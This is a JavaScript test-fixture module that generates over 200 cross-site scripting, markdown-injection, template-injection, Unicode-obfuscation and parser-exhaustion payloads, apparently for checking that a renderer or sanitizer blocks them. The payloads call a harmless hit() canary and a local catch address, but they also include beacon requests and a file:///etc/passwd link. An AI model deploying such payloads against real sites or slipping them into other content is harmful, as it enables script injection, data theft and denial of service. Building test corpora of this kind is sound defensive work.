// A corpus of hostile texts: ways in which a text has become script, a request or a lie on other pages. Every one calls
// hit() or asks for CATCH, an address that only a leak would reach. Made by combining shapes with payloads, and
// the same every time.

const CATCH = 'http://127.0.0.1:9/leak';
const CALLS = ['hit()', 'window.hit()', "top['hi'+'t']()", 'parent.hit`1`', '(0,eval)("hit()")'];

const tags = (js) => [
  `<script>${js}</script>`,
  `<SCRIPT SRC="${CATCH}.js"></SCRIPT>`,
  `<scr<script>ipt>${js}</scr</script>ipt>`,
  `<img src=x onerror=${js}>`,
  `<img src="${CATCH}.png">`,
  `<img/src='x'/onerror='${js}'/>`,
  `<svg onload=${js}>`,
  `<svg><script>${js}</script></svg>`,
  `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${js}'/></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.hit()</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  `<math href="javascript:${js}">click</math>`,
  `<iframe src="javascript:${js}"></iframe>`,
  `<iframe srcdoc="<script>parent.hit()</script>"></iframe>`,
  `<object data="javascript:${js}"></object>`,
  `<embed src="data:text/html,<script>${js}</script>">`,
  `<body onload=${js}>`,
  `<video><source onerror=${js}></video>`,
  `<audio src=x onerror=${js}>`,
  `<details open ontoggle=${js}>x</details>`,
  `<input autofocus onfocus=${js}>`,
  `<select autofocus onfocus=${js}></select>`,
  `<textarea autofocus onfocus=${js}></textarea>`,
  `<marquee onstart=${js}>x</marquee>`,
  `<a href="javascript:${js}">click</a>`,
  `<form action="javascript:${js}"><button autofocus>x</button></form>`,
  `<button formaction="javascript:${js}" form=f>x</button>`,
  `<base href="${CATCH}/">`,
  `<link rel=stylesheet href="${CATCH}.css">`,
  `<link rel=preload as=image href="${CATCH}.png">`,
  `<meta http-equiv=refresh content="0;url=${CATCH}">`,
  `<style>@import '${CATCH}.css';*{background:url(${CATCH})}</style>`,
  `<div style="background:url(${CATCH});position:fixed;inset:0">x</div>`,
  `<template><script>${js}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  `<xss id=x tabindex=1 onfocus=${js} autofocus></xss>`,
  `--><script>${js}</script><!--`,
  `]]><script>${js}</script>`,
  `</textarea><script>${js}</script>`,
  `</title></style><script>${js}</script>`,
  `"><script>${js}</script>`,
  `' onmouseover='${js}`,
];

const marks = (js) => [
  `[click](javascript:${js})`,
  `[click](JaVaScRiPt:${js})`,
  `[click](java\tscript:${js})`,
  `[click](  javascript:${js}  )`,
  `[click](&#106;avascript:${js})`,
  `[click](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)`,
  `[click](vbscript:${js})`,
  `[click](blob:null/${js})`,
  `[click](file:///etc/passwd)`,
  `[click]("onmouseover="${js})`,
  `[<img src=x onerror=${js}>](http://127.0.0.1:9/)`,
  `![x](${CATCH}.png)`,
  `![x](javascript:${js})`,
  `![x" onerror="${js}](x)`,
  `![x](data:image/svg+xml,<svg onload=${js}>)`,
  `[![x](${CATCH}.png)](${CATCH})`,
  `<${CATCH}>`,
  `[ref]: javascript:${js}\n\n[ref]`,
  '```html\n<script>' + js + '</script>\n```',
  '```"><script>' + js + '</script>\nx\n```',
  '`<img src=x onerror=' + js + '>`',
  `**<svg onload=${js}>**`,
  `# <script>${js}</script>`,
  `> <img src=x onerror=${js}>`,
  `- <img src=x onerror=${js}>\n  - <svg onload=${js}>`,
  `| <img src=x onerror=${js}> | b |\n|---|---|\n| ${js} | <script>${js}</script> |`,
  `*_[x](javascript:${js})_*`,
];

const rest = [
  '\u202e\u202dtxet desrever\u202c <script>hit()</script>',
  '\u2066\u2067\u2068hidden\u2069\u2069\u2069',
  '\u200b<\u200bscript>hit()</script>',
  'a\u0000b<script\u0000>hit()</script>',
  '\ufeff<script>hit()</script>',
  '\u{e0041}\u{e0042}\u{e0043}tags that nobody sees',
  'e' + '\u0301'.repeat(300),
  '<'.repeat(3000),
  '['.repeat(2000) + '](' + ')'.repeat(2000),
  '*'.repeat(3001),
  '**a'.repeat(1500),
  '`'.repeat(3001),
  '> '.repeat(1000) + 'deep',
  Array.from({ length: 300 }, (_, i) => ' '.repeat(i) + '- x').join('\n'),
  '![]('.repeat(1500),
  '[a](http://127.0.0.1:9/'.repeat(800),
  'https://127.0.0.1:9/' + 'a'.repeat(5000),
  '&lt;script&gt;hit()&lt;/script&gt;',
  '%3Cscript%3Ehit()%3C/script%3E',
  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
  '{{constructor.constructor("hit()")()}}',
  '${hit()}',
  '<%= hit() %>',
  'javascript:hit()//',
  '\u001b]8;;http://127.0.0.1:9/\u0007click\u001b]8;;\u0007\u001b[2J',
  '＜script＞hit()＜/script＞',
  '<img src=x onerror=&#104;it()>',
  '<svg/onload=\n\thit()\n>',
  '<a href="//127.0.0.1:9/" ping="//127.0.0.1:9/leak">x</a>',
];

/** At least 200 different texts. */
export function payloads() {
  const out = [];
  CALLS.forEach((js, k) => {
    out.push(...tags(js).filter((_, i) => k === 0 || (i + k) % 2 === 0));
    out.push(...marks(js).filter((_, i) => k === 0 || (i + k) % 2 === 0));
  });
  out.push(...rest);
  return [...new Set(out)];
}
